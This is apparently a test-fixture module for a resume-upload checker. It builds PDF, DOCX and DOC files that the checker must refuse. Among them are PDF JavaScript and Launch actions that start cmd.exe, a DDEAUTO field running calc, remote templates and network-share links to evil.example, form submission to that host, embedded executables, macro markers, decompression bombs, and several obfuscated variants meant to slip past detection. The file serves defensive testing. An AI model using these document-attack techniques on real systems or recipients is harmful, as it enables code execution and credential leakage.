/** Complete documents that open normally, but do or hide something that no resume needs. */
import { deflateSync } from 'node:zlib'
import { PDFDocument } from '@cantoo/pdf-lib'
import {
  appendToPdf,
  docxParts,
  makeDoc,
  makePdf,
  makeZip,
  objectStream,
  relationships,
  wordDocument,
  type ZipPart,
} from '../resumeFixtures.ts'
import type { RefusedFile } from './brokenFiles.ts'

type HostileDocument = Required<RefusedFile>

const pdf = (title: string, says: string, data: Buffer): HostileDocument => ({
  title: `PDF: ${title}`,
  name: 'resume.pdf',
  data,
  says,
})
const object = (content: string, number = 3): string => `${number} 0 obj\n${content}\nendobj\n`
const pdfWith = (title: string, says: string, content: string): HostileDocument =>
  pdf(title, says, makePdf({ objects: object(content) }))
const scripted = (title: string, content: string): HostileDocument => pdfWith(title, 'contains a script', content)

const docx = (title: string, says: string, parts: readonly ZipPart[]): HostileDocument => ({
  title: `DOCX: ${title}`,
  name: 'resume.docx',
  data: makeZip(parts),
  says,
})
const docxWith = (title: string, says: string, ...parts: ZipPart[]): HostileDocument =>
  docx(title, says, docxParts(parts))
const template = (title: string, target: string, name = 'word/_rels/settings.xml.rels'): HostileDocument =>
  docxWith(`a template from ${title}`, 'from elsewhere', {
    name,
    data: relationships({ type: 'attachedTemplate', target, external: true }),
  })
const documentOf = (title: string, says: string, body: string): HostileDocument =>
  docx(title, says, [...docxParts().slice(0, 2), { name: 'word/document.xml', data: wordDocument(body) }])
const typed = (title: string, contentType: string): HostileDocument =>
  docx(title, 'contains macros', [
    {
      name: '[Content_Types].xml',
      data: String(docxParts()[0]?.data).replace(
        '</Types>',
        `<Override PartName="/word/a.bin" ContentType="${contentType}"/></Types>`,
      ),
    },
    ...docxParts().slice(1),
  ])

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const ARCHIVE = makeZip([{ name: 'evil.exe', data: 'MZ' }])
const stream = (data: Buffer, entries = ''): string =>
  `<<${entries}/Length ${data.length}>>\nstream\n${data.toString('latin1')}\nendstream`

/** An object stream with one complete object, followed by nothing but spaces. */
const unpacking = (megabytes: number): string =>
  stream(
    deflateSync(Buffer.from('7 0 null'.padEnd(megabytes * 1024 * 1024))),
    '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
  )

async function written(
  change: (document: PDFDocument) => void | Promise<void>,
  useObjectStreams: boolean,
): Promise<Buffer> {
  const document = await PDFDocument.create()
  document.addPage()
  await change(document)
  return Buffer.from(await document.save({ useObjectStreams }))
}

async function writtenPdfs(): Promise<HostileDocument[]> {
  const changes: [string, string, (document: PDFDocument) => void | Promise<void>][] = [
    [
      'a script in the list of names',
      'contains a script',
      (document) => document.addJavaScript('start', 'app.alert(1)'),
    ],
    [
      'an attached file',
      'has other files attached',
      (document) => document.attach(Buffer.from('MZ'), 'evil.exe', { mimeType: 'application/octet-stream' }),
    ],
    ['a password', 'is protected', (document) => document.encrypt({ userPassword: 'secret', ownerPassword: 'secret' })],
    ['restrictions alone', 'is protected', (document) => document.encrypt({ ownerPassword: 'secret' })],
  ]
  return Promise.all(
    changes.flatMap(([title, says, change]) =>
      [true, false].map(async (packed) =>
        pdf(`${title}, ${packed ? 'in an object stream' : 'as it is'}`, says, await written(change, packed)),
      ),
    ),
  )
}

const run = (content: string): string => `<w:r>${content}</w:r>`
const mark = (type: string): string => run(`<w:fldChar w:fldCharType="${type}"/>`)
const instructed = (text: string, name = 'instrText'): string => run(`<w:${name}>${text}</w:${name}>`)
/** A field whose instruction is split into pieces of two letters. */
const inPieces = (instruction: string): string =>
  mark('begin') +
  (instruction.match(/..?/g) ?? []).map((piece) => instructed(piece.replaceAll('"', '&quot;'))).join('') +
  mark('separate') +
  run('<w:t>shown</w:t>') +
  mark('end')

/** Fields that fetch something, in every form and place in which Word reads them. */
function wordFields(): HostileDocument[] {
  const share = String.raw`\\\\evil.example\\share\\a`
  const fields: [string, string][] = [
    [`INCLUDEPICTURE "${share}.png" \\d`, 'on a network drive'],
    [`includepicture \\d “${share}.png”`, 'on a network drive'],
    [`HYPERLINK "${share}.docx"`, 'on a network drive'],
    [`INCLUDETEXT "${share}.docx"`, 'from elsewhere'],
    ['INCLUDETEXT "https://evil.example/a.docx"', 'from elsewhere'],
    ['INCLUDETEXT a.docx', 'from elsewhere'],
    [`LINK Excel.Sheet.12 "${share}.xlsx" "Sheet1!R1C1" \\a`, 'from elsewhere'],
    ['DATABASE \\d "C:\\\\a.mdb" \\c "DSN=a" \\s "select 1"', 'from elsewhere'],
    ['RD "a.docx"', 'from elsewhere'],
    ['DDE excel "a.xls" R1C1', 'contains macros'],
  ]
  const part = (title: string, says: string, name: string, type: string, content: string): HostileDocument =>
    docx(title, says, [
      ...docxParts(),
      { name: 'word/_rels/document.xml.rels', data: relationships({ type, target: name }) },
      { name: `word/${name}`, data: wordDocument(content) },
    ])
  return [
    ...fields.flatMap(([instruction, says]) => [
      documentOf(
        `${instruction} as a simple field`,
        says,
        `<w:fldSimple w:dirty="true" w:instr=" ${instruction.replaceAll('"', '&quot;')}"/>`,
      ),
      documentOf(`${instruction} in pieces`, says, inPieces(instruction)),
      {
        title: `DOC: ${instruction}`,
        name: 'resume.doc',
        data: makeDoc({ text: `\u0013 ${instruction.replaceAll(/[“”]/g, '\u0093')} \u0014shown\u0015` }),
        says,
      },
      {
        title: `DOC: ${instruction} in UTF-16`,
        name: 'resume.doc',
        data: makeDoc({ text: Buffer.from(`\u0013 ${instruction} \u0014shown\u0015`, 'utf16le').toString('latin1') }),
        says,
      },
    ]),
    documentOf(
      'a picture with an endless address',
      'from elsewhere',
      inPieces(`INCLUDEPICTURE ${'a'.repeat(4_100)}.png`),
    ),
    documentOf(
      'a link whose path comes after an endless tip',
      'from elsewhere',
      inPieces(`HYPERLINK \\o "${'a'.repeat(4_100)}" "${share}.docx"`),
    ),
    {
      title: 'DOC: a field in a short document',
      name: 'resume.doc',
      data: makeDoc({ sharedSize: 2000, text: '\u0013 INCLUDETEXT a.docx \u0015' }),
      says: 'from elsewhere',
    },
    {
      title: 'DOC: a field in UTF-16 at an odd place',
      name: 'resume.doc',
      data: makeDoc({ text: `x${Buffer.from('\u0013 INCLUDETEXT a.docx \u0015', 'utf16le').toString('latin1')}` }),
      says: 'from elsewhere',
    },
    documentOf(
      'a field after endless white space',
      'from elsewhere',
      mark('begin') + instructed(' '.repeat(4_100)) + instructed('INCLUDETEXT a.docx') + mark('end'),
    ),
    documentOf(
      'an instruction outside of fields, after one',
      'from elsewhere',
      inPieces('PAGE') + instructed('INCLUDETEXT a.docx'),
    ),
    documentOf(
      'an instruction after an end too many',
      'from elsewhere',
      mark('end') + instructed('INCLUDETEXT a.docx'),
    ),
    {
      title: 'DOC: a field whose name another field makes',
      name: 'resume.doc',
      data: makeDoc({ text: '\u0013  \u0013 QUOTE "INCLUDE" \u0015TEXT a.docx \u0015' }),
      says: 'from elsewhere',
    },
    documentOf('a field without an end', 'from elsewhere', mark('begin') + instructed('INCLUDETEXT a.docx')),
    documentOf(
      'a field that was deleted',
      'from elsewhere',
      mark('begin') + instructed('INCLUDETEXT a', 'delInstrText') + mark('end'),
    ),
    documentOf(
      'a field inside of another one',
      'from elsewhere',
      mark('begin') + instructed('IF 1 = 1 "') + inPieces('INCLUDETEXT a.docx') + instructed('"') + mark('end'),
    ),
    documentOf(
      'a field in what another one shows',
      'from elsewhere',
      mark('begin') + instructed('PAGE') + mark('separate') + inPieces('INCLUDETEXT a.docx') + mark('end'),
    ),
    documentOf(
      'a picture whose address another field makes',
      'from elsewhere',
      mark('begin') +
        instructed('INCLUDEPICTURE "') +
        inPieces('QUOTE 92 92') +
        instructed('evil/a.png"') +
        mark('end'),
    ),
    documentOf(
      'a field whose name another field makes',
      'from elsewhere',
      mark('begin') + inPieces('QUOTE "INCLUDE"') + instructed('TEXT a.docx') + mark('end'),
    ),
    ...['header', 'footer', 'footnotes', 'endnotes', 'comments', 'glossaryDocument'].map((type) =>
      part(
        `a field in a part that is called ${type}`,
        'from elsewhere',
        `${type}.dat`,
        type,
        inPieces('INCLUDETEXT a.docx'),
      ),
    ),
  ]
}

/** Small files in which every position leads through the rest of the file: the work must not grow quadratically. */
function endless(): HostileDocument[] {
  const objects = (title: string, content: string): HostileDocument =>
    pdf(title, 'too complicated', makePdf({ objects: content }))
  return [
    objects('objects in strings in one another', `${'1 0 obj('.repeat(300_000)}${')'.repeat(300_000)}\nendobj\n`),
    objects('objects in one comment', `${'1 0 obj%'.repeat(500_000)}\n1\nendobj\n`),
    objects(
      'many objects of one number, and as many that refer to it',
      `${'3 0 obj/A endobj\n'.repeat(100_000)}${'4 0 obj<</S 3 0 R>>endobj\n'.repeat(100_000)}`,
    ),
    objects(
      'many streams of objects that are all the rest of the file',
      `${'3 0 obj<</N 0/First 9999999>>stream\n'.repeat(100_000)}endstream\nendobj\n`,
    ),
    objects(
      'objects that are all the rest of their stream',
      `3 0 obj\n${objectStream([...Array.from({ length: 200_000 }, (_, index) => [index, '('] as const), [0, ')'.repeat(200_000)]])}\nendobj\n`,
    ),
  ]
}

/** @returns files that must be refused */
export async function hostileDocuments(): Promise<HostileDocument[]> {
  return [
    ...(await writtenPdfs()),
    scripted('a script when it opens', `<</OpenAction${SCRIPT}>>`),
    scripted('a script when a page is shown', `<</Type/Page/AA<</O ${SCRIPT}>>>>`),
    scripted('a script behind a link', `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${SCRIPT}>>`),
    scripted('a script in a field', `<</FT/Tx/T(name)/AA<</K ${SCRIPT}>>>>`),
    scripted('a script after another action', `<</S/URI/URI(https://example.com)/Next[${SCRIPT}]>>`),
    scripted('a script without an action', '<</JS(app.alert\\(1\\))>>'),
    scripted(
      'a script in a stream',
      `<</S/JavaScript/JS 4 0 R>>\nendobj\n4 0 obj\n${stream(Buffer.from('app.alert(1)'))}`,
    ),
    scripted('a script in a film', '<</S/Rendition/JS(app.alert\\(1\\))>>'),
    scripted('a script under a coded name', '<</#53/J#61vaScript/#4aS(1)>>'),
    scripted(
      'a script whose words are objects',
      '<</S 4 0 R/JS 5 0 R>>\nendobj\n4 0 obj /JavaScript endobj\n5 0 obj (1)',
    ),
    scripted(
      'a script after comments and a text that looks like an end',
      '%\n<</A(>>\nstream\n)/S%\n/JavaScript/JS(1)>>',
    ),
    scripted('a script in an object stream', objectStream([[4, SCRIPT]])),
    scripted('a script in an object stream without a type', objectStream([[4, SCRIPT]], '')),
    scripted('a program in an object stream', objectStream([[4, '<</S/Launch/F(cmd.exe)>>']])),
    scripted('a script in an object that lies in a stream', stream(Buffer.from(`9 0 obj\n${SCRIPT}\nendobj`))),
    scripted('a script in an object that lies in a string', `(9 0 obj\n${SCRIPT}\nendobj)`),
    scripted('a program to start', '<</S/Launch/Win<</F(cmd.exe)>>>>'),
    scripted('an XML form', '<</Fields[]/XFA[(template)4 0 R]>>\nendobj\n4 0 obj\n<</Length 1>>\nstream\nx\nendstream'),
    scripted(
      'an XML form in a stream that has a subtype',
      `<</Fields[]/XFA 4 0 R>>\nendobj\n4 0 obj\n${stream(Buffer.from('<template/>'), '/Subtype/XML')}`,
    ),
    ...[
      '<</S/URI/URI(https://evil.example/)>>',
      '<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>',
      '<</S/GoToR/F(other.pdf)/D[0/Fit]>>',
      '<</S/Thread/F(other.pdf)/D 0>>',
      '<</S/GoTo/D[2 0 R/Fit]/Next[<</S/Named/N/NextPage>><</S/URI/URI(https://evil.example/)>>]>>',
    ].flatMap((action) => [
      pdfWith(`${action} when it opens`, 'on its own', `<</OpenAction ${action}>>`),
      pdfWith(`${action} when a page is shown`, 'on its own', `<</Type/Page/AA<</O ${action}>>>>`),
    ]),
    pdfWith(
      'an address after a page, each in an object of its own',
      'on its own',
      '<</OpenAction 4 0 R>>\nendobj\n4 0 obj\n<</S/GoTo/D[2 0 R/Fit]/Next 5 0 R>>\nendobj\n5 0 obj\n[4 0 R 6 0 R]\nendobj\n6 0 obj\n<</S/URI/URI(https://evil.example/)>>',
    ),
    pdfWith(
      'an address when a field is left, in a table of its own',
      'on its own',
      '<</FT/Tx/T(name)/AA 4 0 R>>\nendobj\n4 0 obj\n<</Bl 5 0 R>>\nendobj\n5 0 obj\n<</S/URI/URI(https://evil.example/)>>',
    ),
    pdfWith(
      'a page of another file in place of a drawing',
      'from elsewhere',
      stream(Buffer.from('0 0 m'), '/Subtype/Form/BBox[0 0 9 9]/Ref<</F(other.pdf)/Page 0>>'),
    ),
    pdfWith(
      'a file from the web',
      'from elsewhere',
      '<</S/GoToR/F<</FS/URL/F(https://evil.example/a.pdf)>>/D[0/Fit]>>',
    ),
    pdf(
      'a script that a later change took out',
      'contains a script',
      appendToPdf(makePdf({ objects: object(SCRIPT) }), object('null')),
    ),
    pdf(
      'a catalog with a script in the trailer',
      'contains a script',
      Buffer.from(
        makePdf().toString('latin1').replace('/Root 1 0 R', `/Root 1 0 R/X<</OpenAction${SCRIPT}>>`),
        'latin1',
      ),
    ),
    pdfWith(
      'an encrypted stream of cross-references',
      'is protected',
      stream(Buffer.from('x'), '/Type/XRef/Encrypt 9 0 R'),
    ),
    pdf(
      'an entry for encryption',
      'is protected',
      Buffer.from(makePdf().toString('latin1').replace('/Root', '/Encrypt<</Filter/Standard/V 2>>/Root'), 'latin1'),
    ),
    pdfWith(
      'a file in the file',
      'has other files attached',
      stream(deflateSync('MZ'), '/Type/EmbeddedFile/Filter/FlateDecode'),
    ),
    // People who make a PDF with Europass can't leave its XML out.
    pdfWith(
      'a file behind an annotation',
      'has other files attached. Print it to a new PDF and select that one.',
      '<</Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 9 0 R>>>>>>',
    ),
    pdfWith('a way into a file beside it', 'has other files attached', '<</S/GoToE/F(other.pdf)/D[0/Fit]>>'),
    pdfWith('a way into an attached file', 'has other files attached', '<</S/GoToE/T<</R/C/N(a.pdf)>>>>'),
    pdfWith(
      'data in a file of their own',
      'has other files attached',
      '<</Length 0/F(data.bin)>>\nstream\n\nendstream',
    ),
    pdfWith('a form that sends', 'sends or loads data', '<</S/SubmitForm/F(https://evil.example/)>>'),
    pdfWith('a form that loads', 'sends or loads data', '<</S/ImportData/F(data.fdf)>>'),
    pdfWith('a film', 'contains video', '<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>'),
    pdfWith(
      'a document on a network drive',
      'on a network drive',
      String.raw`<</S/GoToR/F(\\\\evil.example\\share\\a.pdf)/D[0/Fit]>>`,
    ),
    pdfWith(
      'a network drive in UTF-16',
      'on a network drive',
      '<</S/GoToR/F<</UF<FEFF005C005C006500760069006C005C0061>>>>>',
    ),
    pdfWith('a link to a network drive', 'on a network drive', '<</S/URI/URI(file://evil.example/share/a.pdf)>>'),
    pdfWith(
      'an archive in a stream',
      'more than a PDF',
      `${stream(ARCHIVE)}\nendobj\n4 0 obj\n(${'x'.repeat(70_000)})`,
    ),
    pdfWith('an archive without its end in a stream', 'more than a PDF', stream(ARCHIVE.subarray(0, -22))),
    pdfWith('an object stream without a first object', 'damaged', stream(Buffer.from('7 0 null'), '/Type/ObjStm/N 1')),
    pdfWith('an object stream without a number of objects', 'damaged', stream(Buffer.from('7 0 null'), '/First 4')),
    pdfWith('an object stream that unpacks to 100 MB', 'damaged', unpacking(100)),
    pdfWith(
      'two object streams that unpack to 80 MB together',
      'damaged',
      `${unpacking(40)}\nendobj\n4 0 obj\n${unpacking(40)}`,
    ),
    ...[
      '/Filter[/FlateDecode/ASCIIHexDecode]',
      '/Filter/LZWDecode',
      '/Filter/FlateDecode/DecodeParms<</Predictor 12>>',
    ].map((packing) =>
      pdfWith(
        `an object stream with ${packing}`,
        'damaged',
        stream(deflateSync(Buffer.from('7 0 null')), `/Type/ObjStm/N 1/First 4${packing}`),
      ),
    ),
    pdfWith('arrays without an end', 'damaged', '['.repeat(100_000)),

    ...endless(),

    template('the web', 'https://evil.example/t.dotm'),
    template('the web, with a coded letter', '&#104;ttps://evil.example/t.dotm'),
    template('a network drive as a file', 'file://evil.example/t.dotm'),
    template('a network drive with five slashes', 'file://///evil.example/t.dotm'),
    template('a network drive with four slashes', 'file:////evil.example/Users/t.dotm'),
    template('a network drive named like a Mac’s folder', 'file:////Users@80/t.dotm'),
    ...['/..', '/%2e%2E', '/.&#9;.', '/a%2F..', String.raw`/a\..`, '/&#10;/..'].map((up) =>
      template(`a network drive above a Mac’s folder, by ${up}`, `file:////Users${up}/evil.example/t.dotm`),
    ),
    template('a network drive with coded slashes', 'file:%5c%5cevil.example%5ct.dotm'),
    template('a network drive', String.raw`\\evil.example\t.dotm`),
    template('the web, after white space', '&#10; HTTPS://evil.example/t.dotm'),
    template('the web, in a part in capital letters', 'https://evil.example/t.dotm', 'word/_rels/Settings.xml.rels'),
    template('the web, for another part', 'https://evil.example/t.dotm', 'word/_rels/document.xml.rels'),
    docxWith('a template in UTF-16', 'from elsewhere', {
      name: 'word/_rels/settings.xml.rels',
      data: Buffer.from(
        `\ufeff${relationships({ type: 'attachedTemplate', target: 'https://evil.example/t.dotm', external: true }).replace('UTF-8', 'UTF-16')}`,
        'utf16le',
      ),
    }),
    docxWith('a template behind a document type', 'damaged', {
      name: 'word/_rels/settings.xml.rels',
      data: `<!DOCTYPE r [<!ENTITY u "https://evil.example/">]>${relationships({ type: 'attachedTemplate', target: '&u;', external: true }).replace(/^.+\n/, '')}`,
    }),
    docxWith('a document type', 'damaged', {
      name: 'word/_rels/settings.xml.rels',
      data: `<!DOCTYPE r>${relationships().replace(/^.+\n/, '')}`,
    }),
    docxWith('an object from the web', 'from elsewhere', {
      name: 'word/_rels/document.xml.rels',
      data: relationships({ type: 'oleObject', target: 'mhtml:https://evil.example/a!x', external: true }),
    }),
    ...['file://evil.example/a.png', 'file:////Users/asha/a.png'].map((target) =>
      docxWith(`a picture at ${target}`, 'on a network drive', {
        name: 'word/_rels/document.xml.rels',
        data: relationships({ type: 'image', target, external: true }),
      }),
    ),
    docxWith('another document inside', 'from elsewhere', {
      name: 'word/_rels/document.xml.rels',
      data: relationships({ type: 'aFChunk', target: 'chunk.xml' }),
    }),
    typed('macros with a coded letter', 'application/vnd.ms-office.vba&#80;roject'),
    typed('macros with another coded letter', 'application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
    docxWith('macros by their relationship', 'contains macros', {
      name: 'word/_rels/document.xml.rels',
      data: relationships({ type: 'vbaProject', target: 'innocent.xml' }),
    }),
    ...['run.wsf', 'link.url', 'link.scf', 'run.JSE', 'macros.docm', 'page.mht'].map((name) =>
      docxWith(name, 'contains macros', { name: `word/embeddings/${name}`, data: 'x' }),
    ),
    docxWith('a program in an object', 'contains macros', {
      name: 'word/embeddings/oleObject1.bin',
      data: makeDoc({ extraEntries: ['\u0001Ole10Native'] }),
    }),
    documentOf(
      'a field that starts a program',
      'contains macros',
      '<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;"/>',
    ),
    documentOf(
      'a field in pieces that starts a program',
      'contains macros',
      '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E&#65;UTO x</w:instrText></w:r>',
    ),
    ...wordFields(),
    docxWith('another program in an object, its name in capitals', 'contains macros', {
      name: 'word/embeddings/oleObject1.bin',
      data: makeDoc({ extraEntries: ['\u0001OLE10NATIVE'] }),
    }),
    docxWith('macros in an object, their name in small letters', 'contains macros', {
      name: 'word/embeddings/oleObject1.bin',
      data: makeDoc({ extraEntries: ['_vba_project'] }),
    }),
    {
      title: 'DOCX: a password',
      name: 'resume.docx',
      data: makeDoc({ wordName: 'EncryptionInfo', extraEntries: ['EncryptedPackage'] }),
      says: 'is password protected',
    },
    docxWith('90 MB that say to be 1,000 bytes', 'unpacks to far more', {
      name: 'word/media/a.bin',
      data: Buffer.alloc(90 * 1024 * 1024),
      declaredSize: 1000,
    }),
    docxWith('1,000 bytes that say to be more', 'damaged', {
      name: 'word/media/a.bin',
      data: 'x'.repeat(1000),
      declaredSize: 2000,
    }),
    ...['macros', 'Macros\0x', 'vba'].map((name) => ({
      title: `DOC: macros under the name ${JSON.stringify(name)}`,
      name: 'resume.doc',
      data: makeDoc({ extraEntries: [name] }),
      says: 'contains macros',
    })),
  ]
}
